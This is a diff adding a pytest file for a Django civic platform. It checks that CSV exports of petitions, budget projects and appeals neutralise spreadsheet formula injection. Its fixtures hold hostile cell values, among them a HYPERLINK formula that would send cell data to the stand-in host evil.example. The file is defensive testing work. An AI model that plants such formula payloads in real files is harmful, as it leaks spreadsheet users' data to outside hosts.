@@ -1,0 +1,163 @@
+"""Spreadsheet exports: text that a spreadsheet would run as a formula is neutralised."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.urls import reverse
+from django.utils.translation import gettext_lazy
+
+from hromada.appeals.models import Appeal, Category
+from hromada.budget import pabulib
+from hromada.budget import services as budget_services
+from hromada.budget.models import Project
+from hromada.core import registry
+from hromada.core.exports import csv_response, safe_cell
+from hromada.petitions.models import Topic
+from tests.appeals.conftest import report
+from tests.budget.helpers import draft, make_category, make_cycle
+from tests.factories import client_for, make_resident, make_staff
+from tests.petitions.conftest import make_collecting
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+HOSTILE = [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_like_text_gets_an_apostrophe(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", [-2, -12.5, Decimal("-0.5"), 0, 3, None, True])
+def test_numbers_and_empty_cells_stay_as_they_are(value):
+    assert safe_cell(value) is value
+
+
+def test_plain_and_lazy_text():
+    assert safe_cell("вул. Миру, 5") == "вул. Миру, 5"
+    assert safe_cell("a=1") == "a=1"  # only the first character matters
+    assert safe_cell(gettext_lazy("-5")) == "'-5"
+
+
+def test_a_big_export_is_streamed_and_neutralised_too():
+    """Past the first piece the rows are streamed, each cell still made safe."""
+    rows = ({"n": -number, "title": f"=A{number}"} for number in range(5))
+    response = csv_response(rows, fields=["n", "title"], name="big", rows_at_once=2)
+    assert isinstance(response, StreamingHttpResponse)
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")
+    parsed = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
+    assert parsed[0] == ["n", "title"]
+    assert parsed[1:] == [[str(-n), f"'=A{n}"] for n in range(5)]
+
+
+# Every declared export, downloaded as a resident would -----------------------
+
+
+@pytest.fixture
+def hostile_petition(community):
+    """A published petition with a formula for a title and an author named like one."""
+    moderator = make_staff(community, "moderator")
+    topic = Topic.objects.create(community=community, name="Транспорт і дороги")
+    author = make_resident(community, full_name="\t=1")
+    return make_collecting(community, author, topic, moderator, title=HYPERLINK)
+
+
+@pytest.fixture
+def hostile_project(community):
+    """A submitted budget project, with a longitude west of Greenwich (a number)."""
+    category = make_category(make_cycle(community))
+    author = make_resident(community, full_name="\r=1")
+    project = draft(
+        author, category, title="+1", address="-2+3", description="@SUM(A1) лавки й ліхтарі"
+    )
+    budget_services.submit_project(resident=author, project=project)
+    # No community lies there: the row is changed by hand to have a negative number.
+    Project.objects.filter(pk=project.pk).update(lon=-0.5)
+    return project
+
+
+@pytest.fixture
+def hostile_appeal(community):
+    from hromada.appeals import services
+
+    services.install_default_categories(community=community)
+    categories = {c.service_code: c for c in Category.objects.filter(community=community)}
+    appeal = report(
+        community,
+        categories,
+        make_resident(community),
+        address="-2+3",
+        description="@SUM(A1) не світить ліхтар",
+    )
+    Appeal.objects.filter(pk=appeal.pk).update(lon=-0.5)
+    return appeal
+
+
+def _csv_exports():
+    """Return (export name, URL) of every CSV data set the enabled modules declare."""
+    return [
+        (export.name, reverse(f"{declared.name}:open_data") + "?format=csv")
+        for declared in registry.modules()
+        for export in declared.exports
+    ]
+
+
+def _download(url: str) -> list[dict]:
+    response = client_for().get(url)
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    content = getattr(response, "content", None) or b"".join(response.streaming_content)
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.django_db
+def test_no_export_has_a_cell_a_spreadsheet_would_run(
+    community, hostile_petition, hostile_project, hostile_appeal
+):
+    """Every declared CSV export: hostile text comes out quoted, numbers stay numbers."""
+    exports = _csv_exports()
+    assert {name for name, _url in exports} >= {"e-petitions", "public-budget", "hotline-appeals"}
+    seen = set()
+    negative_longitudes = 0
+    for name, url in exports:
+        rows = _download(url)
+        assert rows, name
+        for row in rows:
+            for column, cell in row.items():
+                # A negative number is the one thing that may start with "-".
+                if cell.startswith(FORMULA_STARTS):
+                    assert _is_number(cell), (name, column, cell)
+                seen.add(cell)
+            if row.get("longitude") == "-0.5":
+                negative_longitudes += 1
+    # The hostile values did reach the exports, each with its apostrophe.
+    for text in HOSTILE:
+        assert any(cell.startswith("'" + text) for cell in seen), text
+    assert negative_longitudes == 2  # the project and the appeal
+
+
+def test_pabulib_files_keep_their_data_as_written():
+    """A .pb file is data for other tools, not a spreadsheet: titles round-trip unchanged."""
+    text = (
+        "META\nkey;value\nbudget;100\nvote_type;approval\n"
+        f"PROJECTS\nproject_id;cost;name\n1;60;{HYPERLINK.replace(chr(34), '')}\n2;40;-2+3\n"
+        "VOTES\nvoter_id;vote\nv1;1,2\n"
+    )
+    election = pabulib.parse(text)
+    again = pabulib.parse(pabulib.dumps(election))
+    assert [p.fields.get("name") for p in again.projects] == [
+        HYPERLINK.replace('"', ""),
+        "-2+3",
+    ]
